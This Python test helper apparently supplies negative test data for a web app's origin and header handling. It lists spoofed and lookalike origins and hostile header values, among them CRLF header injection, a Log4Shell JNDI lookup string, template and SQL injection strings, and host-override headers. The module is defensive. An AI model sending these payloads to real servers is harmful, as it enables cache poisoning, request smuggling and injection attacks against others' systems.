"""What nobody honest sends: origins that look like one of ours, and headers that would poison an answer or a cache."""

from __future__ import annotations

from collections.abc import Iterator

from tests.partners_world import ORIGIN

HOST = ORIGIN.partition("://")[2]
MARK = "gift.example"


def origins() -> list[str]:
    """Return origins of others, each close to ORIGIN in its own way."""
    found = [
        "",
        "null",
        "NULL",
        "*",
        "https://*",
        "https://*.ville-exemple.fr",
        "https://",
        "https:",
        HOST,
        f"//{HOST}",
        f"http://{HOST}",
        f"ftp://{HOST}",
        f"wss://{HOST}",
        f"file://{HOST}",
        f"HTTPS://{HOST}",
        f"Https://{HOST}",
        ORIGIN.upper(),
        f"https://{HOST.capitalize()}",
        f"https://{HOST.title()}",
        f"{ORIGIN}.",
        f"{ORIGIN}..",
        f"{ORIGIN}.{MARK}",
        f"{ORIGIN}{MARK}",
        f"{ORIGIN}-{MARK}",
        f"{ORIGIN}_{MARK}",
        f"https://{MARK}.{HOST}",
        f"https://{MARK}{HOST}",
        f"https://x{HOST}",
        f"https://.{HOST}",
        "https://ville-exemple.fr",
        "https://www-ville-exemple.fr",
        "https://wwwxville-exemple.fr",
        "https://www.ville-exemple.f",
        f"{ORIGIN}x",
        f"{ORIGIN}:443",
        f"{ORIGIN}:80",
        f"{ORIGIN}:8443",
        f"{ORIGIN}:",
        f"{ORIGIN}:0443",
        f"{ORIGIN}:443@{MARK}",
        f"https://{MARK}@{HOST}",
        f"https://user:pass@{HOST}",
        f"https://{HOST}@{MARK}",
        f"https://{HOST}:x@{MARK}",
        f"{ORIGIN}/",
        f"{ORIGIN}/page",
        f"{ORIGIN}?x",
        f"{ORIGIN}#x",
        f"{ORIGIN}\\",
        f"{ORIGIN}\\@{MARK}",
        f"{ORIGIN}%00",
        f"{ORIGIN}%2e{MARK}",
        f"{ORIGIN},https://{MARK}",
        f"https://{MARK},{ORIGIN}",
        f"https://{MARK}, {ORIGIN}",
        f"{ORIGIN} https://{MARK}",
        f"https://{MARK} {ORIGIN}",
        f" {ORIGIN}",
        f"{ORIGIN} ",
        f"\t{ORIGIN}",
        f"{ORIGIN}\x00",
        f"{ORIGIN}\r\nAccess-Control-Allow-Origin: *",
        f"{ORIGIN}\n",
        f"{ORIGIN}\x0b",
        f'"{ORIGIN}"',
        f"'{ORIGIN}'",
        f"<{ORIGIN}>",
        f"[{ORIGIN}]",
        f"{ORIGIN};",
        f"{ORIGIN}&",
        f"{ORIGIN}`",
        f"{ORIGIN}{{",
        "https://xn--ville-exemple-.fr",
        "https://www.xn--vlle-exemple-9xb.fr",
        "https://www.ville\u2010exemple.fr",
        "https://www.v\u0456lle-exemple.fr",
        "https://www.ville-exemple\u3002fr",
        "https://www.ville-exemple\uff0efr",
        "https://ｗｗｗ.ville-exemple.fr",
        "https://www.ville-exemple.\u202efr",
        "https://www.ville\u200b-exemple.fr",
        f"{ORIGIN}\u00a0",
        "https://localhost",
        "http://localhost:9000",
        "http://127.0.0.1",
        "https://[::1]",
        "app://localhost",
        "chrome-extension://abcdefghijkl",
        "data:text/html,x",
        "javascript:alert(1)",
        "about:blank",
        "blob:" + ORIGIN,
        ORIGIN * 40,
        "https://" + "a" * 8000,
    ]
    return list(dict.fromkeys(found))


def headers() -> list[tuple[str, str]]:
    """Return headers, one at a time, as WSGI hands them over: names as in `environ`, values as Latin-1."""
    return list(dict.fromkeys(_headers()))


def _headers() -> Iterator[tuple[str, str]]:
    hosts = (
        MARK,
        f"testserver.{MARK}",
        f"{MARK}:80",
        f"testserver@{MARK}",
        f"testserver:80@{MARK}",
        f"testserver, {MARK}",
        f"testserver\r\nX: {MARK}",
        f"testserver/{MARK}",
        f"testserver#{MARK}",
        f"testserver {MARK}",
        "",
        "[::1",
        "a" * 9000,
        f"http://{MARK}/",
        f"{MARK}\x00testserver",
        "testserver:notaport",
        "testserver:-1",
        "testserver:99999999",
        ".",
        "..",
    )
    yield from (("HTTP_HOST", value) for value in hosts)
    forwarding = (
        "HTTP_X_FORWARDED_HOST",
        "HTTP_X_HOST",
        "HTTP_X_FORWARDED_SERVER",
        "HTTP_X_HTTP_HOST_OVERRIDE",
        "HTTP_FORWARDED",
        "HTTP_X_ORIGINAL_HOST",
        "HTTP_X_REWRITE_URL",
        "HTTP_X_ORIGINAL_URL",
        "HTTP_X_FORWARDED_PREFIX",
        "HTTP_X_SCRIPT_NAME",
        "HTTP_X_FORWARDED_PORT",
        "HTTP_X_FORWARDED_SCHEME",
        "HTTP_X_FORWARDED_PROTO",
        "HTTP_X_FORWARDED_SSL",
        "HTTP_FRONT_END_HTTPS",
        "HTTP_X_FORWARDED_URI",
        "HTTP_X_FORWARDED_PATH",
        "HTTP_PROXY",
        "HTTP_PROXY_HOST",
        "HTTP_VIA",
        "HTTP_REFERER",
        "HTTP_X_WAP_PROFILE",
        "HTTP_BASE_URL",
        "HTTP_DESTINATION",
        "HTTP_X_PROXY_URL",
        "HTTP_REQUEST_URI",
    )
    for name in forwarding:
        yield from (
            (name, value) for value in (MARK, f"https://{MARK}/x", f"host={MARK};proto=https", f"/admin/{MARK}")
        )
    methods = ("DELETE", "PUT", "PURGE", "POST", "TRACE", "x" * 4000)
    for name in ("HTTP_X_HTTP_METHOD_OVERRIDE", "HTTP_X_HTTP_METHOD", "HTTP_X_METHOD_OVERRIDE"):
        yield from ((name, value) for value in methods)
    people = (
        "HTTP_X_FORWARDED_FOR",
        "HTTP_X_REAL_IP",
        "HTTP_CLIENT_IP",
        "HTTP_TRUE_CLIENT_IP",
        "HTTP_CF_CONNECTING_IP",
        "HTTP_X_CLUSTER_CLIENT_IP",
    )
    for name in people:
        yield from ((name, value) for value in ("127.0.0.1", "::1", "'; DROP TABLE x; --", "a," * 3000, "\xff\xfe"))
    odd = (
        "",
        "*",
        "\xff\xfe\x00",
        "é" * 50,
        "x" * 20_000,
        "\r\nSet-Cookie: a=b",
        "${jndi:ldap://gift.example}",
        "{{7*7}}",
        "<script>gift.example</script>",
        "%0d%0aX-Injected: 1",
        "-1",
        "0",
        "NaN",
        "1e999",
        ",,,;;;===",
    )
    taken = (
        "HTTP_ACCEPT_LANGUAGE",
        "HTTP_ACCEPT_CHARSET",
        "HTTP_USER_AGENT",
        "HTTP_COOKIE",
        "HTTP_X_REQUEST_ID",
        "HTTP_RANGE",
        "HTTP_IF_RANGE",
        "HTTP_CACHE_CONTROL",
        "HTTP_PRAGMA",
        "HTTP_TE",
        "HTTP_ORIGIN",
        "HTTP_REFERER",
        "HTTP_DNT",
        "HTTP_ACCEPT_DATETIME",
        "HTTP_PREFER",
        "HTTP_X_REQUESTED_WITH",
        "HTTP_EXPECT",
        "CONTENT_TYPE",
    )
    for name in taken:
        yield from ((name, value) for value in odd)
    # These may change the answer, in a way that is known: never into an error of ours.
    for name in (
        "HTTP_ACCEPT",
        "HTTP_ACCEPT_ENCODING",
        "HTTP_IF_NONE_MATCH",
        "HTTP_IF_MODIFIED_SINCE",
        "HTTP_AUTHORIZATION",
    ):
        yield from ((name, value) for value in (*odd, "Bearer", "bearer " + "x" * 9000, "Basic \xff", f"Bearer {MARK}"))
    yield from (
        ("HTTP_RANGE", value)
        for value in ("bytes=0-0", "bytes=-1", "bytes=5-2", "bytes=0-,0-,0-", "bytes=0-" + "9" * 40)
    )
